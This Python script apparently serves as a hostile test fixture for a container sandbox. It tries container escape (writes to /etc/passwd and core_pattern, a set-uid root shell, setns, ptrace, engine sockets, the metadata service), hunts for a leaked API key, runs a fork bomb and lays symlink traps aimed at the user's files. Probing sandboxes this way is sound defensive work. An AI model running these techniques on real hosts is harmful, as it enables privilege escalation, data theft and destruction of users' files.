"""A hostile script: tries to get out of its container, and prints what came of each attempt."""

import ctypes
import json
import os
import resource
import shutil
import socket
import stat
import subprocess
import sys
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
GIVEN = json.loads(sys.argv[1])

# Numbers of x86-64, for calls that Python and libc have no name for.
SYSCALLS = {
    "bpf": 321,
    "init_module": 175,
    "kexec_load": 246,
    "keyctl": 250,
    "open_by_handle_at": 304,
    "perf_event_open": 298,
    "pivot_root": 155,
    "reboot": 169,
    "userfaultfd": 323,
}
CLONE_NEWNS, CLONE_NEWUSER = 0x00020000, 0x10000000
ENGINE_SOCKETS = (
    "/var/run/docker.sock",
    "/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/docker/containerd/containerd.sock",
)


def attempt(action, *arguments):
    """Return the name of the error that *action* meets, or what it got."""
    try:
        got = action(*arguments)
    except ValueError as error:  # Python's own word for a limit that may not be raised
        return type(error).__name__
    except OSError as error:
        return type(error).__name__ + (f" {error.errno}" if type(error) is OSError else "")
    return "allowed" if got is None else f"allowed: {got}"


def call(name, *arguments):
    """Call libc's *name*; an errno is an OSError."""
    if getattr(libc, name)(*arguments) != 0:
        raise OSError(ctypes.get_errno(), name)


def write(path):
    """Write a byte, which is what an attacker would try first."""
    with open(path, "ab") as file:
        file.write(b"x")


def syscall(name):
    """Make a system call with empty arguments: EPERM and ENOSYS are the filter's answers."""
    if libc.syscall(SYSCALLS[name], 0, 0, 0, 0, 0, 0) < 0:
        raise OSError(ctypes.get_errno(), name)


def mount(source, target, kind, flags=0):
    """Mount something somewhere."""
    call("mount", source, target, kind, flags, None)


def connect(address):
    """Open a connection within a second."""
    socket.create_connection(tuple(address), timeout=1).close()


def connect_unix(path):
    """Open a Unix socket by its path, or its abstract name after a NUL."""
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(1)
        client.connect(path)


def send_raw():
    """Open a raw socket, with which one forges packets."""
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


def run(*command):
    """Run a command for its exit code; one that is absent is an OSError."""
    done = subprocess.run(command, capture_output=True, stdin=subprocess.DEVNULL, check=False)
    if done.returncode:
        raise PermissionError(1, command[0])


def own_setuid():
    """Make a shell that should run as its owner, root if it can be, and start it."""
    path = shutil.copy("/bin/sh", "/output/rootsh")
    os.chmod(path, 0o6755)
    out = subprocess.run([path, "-p", "-c", "id -u"], capture_output=True, text=True, check=True)
    if out.stdout.strip() != "0":
        raise PermissionError(1, "still not root")


def files():
    """Write outside of /output, and read what was not mounted."""
    targets = ("/etc/passwd", "/usr/bin/x", "/opt/venv/x", "/opt/samerun/image.json", "/code/x")
    targets += ("/data/x", "/x", "/run/secrets/netrc", "/dev/x")
    kernel = ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper")
    found = {f"write {path}": attempt(write, path) for path in (*targets, *kernel)}
    found["read a file of the host"] = attempt(Path(GIVEN["secret"]).read_text)
    found["read another run's output"] = attempt(os.listdir, GIVEN["neighbor"])
    found["read the engine's folder"] = attempt(os.listdir, "/var/lib/docker")
    found["make a cgroup"] = attempt(os.mkdir, "/sys/fs/cgroup/escape")
    return found


def root():
    """Become root, or gain any capability."""
    found = {"setuid 0": attempt(os.setuid, 0), "setgid 0": attempt(os.setgid, 0)}
    found["setgroups"] = attempt(os.setgroups, [0])
    found["sudo"] = attempt(run, "sudo", "-n", "true")
    found["su"] = attempt(run, "su", "-c", "true")
    found["own set-uid shell"] = attempt(own_setuid)
    found["unshare user namespace"] = attempt(call, "unshare", CLONE_NEWUSER)
    found["unshare mounts"] = attempt(call, "unshare", CLONE_NEWNS)
    found["mount tmpfs"] = attempt(mount, b"none", b"/tmp", b"tmpfs")
    found["remount / writable"] = attempt(mount, None, b"/", None, 32)  # MS_REMOUNT
    found["chroot"] = attempt(os.chroot, "/tmp")
    found["make a disk's device"] = attempt(os.mknod, "/tmp/disk", 0o60600, os.makedev(254, 0))
    found["raw socket"] = attempt(send_raw)
    found["raise priority"] = attempt(os.setpriority, os.PRIO_PROCESS, 0, -5)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    found["raise hard limit"] = attempt(
        resource.setrlimit, resource.RLIMIT_NOFILE, (hard, hard + 1)
    )
    found["enter PID 1's namespaces"] = attempt(_setns)
    found["debug a process of the host"] = attempt(debug_host)
    found["stop a process of the host"] = attempt(os.kill, GIVEN["host_pid"], 9)
    return found | {f"syscall {name}": attempt(syscall, name) for name in SYSCALLS}


def _setns():
    descriptor = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    call("setns", descriptor, 0)


def debug_host():
    """Attach to a process of the host by its number; in here that is nobody, or ourselves."""
    call("ptrace", 16, GIVEN["host_pid"], None, None)  # PTRACE_ATTACH


def state():
    """Return what the kernel says of this process."""
    lines = Path("/proc/self/status").read_text().splitlines()
    status = {key: value.strip() for key, value in (line.split(":", 1) for line in lines)}
    wanted = ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
    mounts = [line.split()[4:6] for line in Path("/proc/self/mountinfo").read_text().splitlines()]
    return {key: status[key] for key in wanted} | {
        "uid": os.getuid(),
        "groups": os.getgroups(),
        "writable": sorted(place for place, options in mounts if options.split(",")[0] == "rw"),
        "setuid files": setuid_files(),
        "block devices": [p.name for p in Path("/dev").iterdir() if p.is_block_device()],
        "processes": sorted(int(p.name) for p in Path("/proc").glob("[0-9]*")),
        "init": Path("/proc/1/comm").read_text().strip(),
        "data": sorted(p.name for p in Path("/data").iterdir()),
    }


def setuid_files():
    """Return all set-uid and set-gid files of the image."""
    found = []
    for place, folders, names in os.walk("/"):
        if place == "/":
            folders[:] = [name for name in folders if name not in ("proc", "sys", "output", "data")]
        modes = ((path, os.lstat(path).st_mode) for path in (f"{place}/{name}" for name in names))
        found += [path for path, mode in modes if stat.S_ISREG(mode) and mode & 0o6000]
    return found


def network():
    """Reach the engine, the host, the cloud's metadata service, another run."""
    found = {f"engine {path}": attempt(connect_unix, path) for path in ENGINE_SOCKETS}
    found["abstract socket of the host"] = attempt(connect_unix, "\0" + GIVEN["abstract"])
    return found | {name: attempt(connect, at) for name, at in GIVEN["addresses"].items()}


def key():
    """Look for the key, which wandb needs and may have, in all the places it must not be in."""
    value = Path(os.environ["NETRC"]).read_text().split()[-1].encode()
    child = subprocess.Popen([sys.executable, "-c", "input()"], stdin=subprocess.PIPE)
    found = [str(path) for path in _readable() if value in _content(path)]
    child.communicate(b"\n")
    return {"key is found": found, "key length": len(value)}


def _readable():
    for process in Path("/proc").glob("[0-9]*"):
        yield from (process / name for name in ("environ", "cmdline", "mountinfo", "status"))
    for folder in ("/output", "/code", "/tmp"):
        yield from (p for p in Path(folder).rglob("*") if p.is_file())


def _content(path):
    try:
        return path.read_bytes()
    except OSError:
        return b""


def lay_traps():
    """Lay links in /output that would lead the host's pen and eyes to the user's own files."""
    victim = GIVEN["victim"]
    for name in ("run.json", "log.txt", ".reserve"):
        os.unlink(f"/output/{name}")
        os.symlink(victim, f"/output/{name}")
    for pid in range(GIVEN["host_pid"], GIVEN["host_pid"] + 2000):
        os.symlink(victim, f"/output/.run.json.{pid}")
    parts = Path("/output/.samerun")
    os.makedirs(parts, exist_ok=True)
    for name in ("environment.json", "result.json", "config.json", "wandb-x.json"):
        (parts / name).unlink(missing_ok=True)
    os.symlink(GIVEN["secret"], parts / "config.json")
    os.mkfifo(parts / "result.json")
    (parts / "environment.json").write_text("[" * 100_000)
    (parts / "wandb-x.json").write_text('{"id": 1}')


def fork_bomb():
    """Start processes until the kernel refuses; return how many there were."""
    children, pipe = [], os.pipe()
    try:
        for _ in range(5000):
            child = os.fork()
            if child == 0:
                os.close(pipe[1])
                os.read(pipe[0], 1)
                os._exit(0)
            children.append(child)
    except OSError as error:
        return {"fork bomb": type(error).__name__, "forked": len(children)}
    finally:
        os.close(pipe[1])
        for child in children:
            os.waitpid(child, 0)
    return {"fork bomb": "allowed", "forked": len(children)}


if __name__ == "__main__":
    attempts = {**files(), **root(), **network()}
    facts = {**state(), **key()}
    bomb = fork_bomb()
    print("FOUND " + json.dumps({"attempts": attempts, "facts": facts, "bomb": bomb}), flush=True)
    lay_traps()
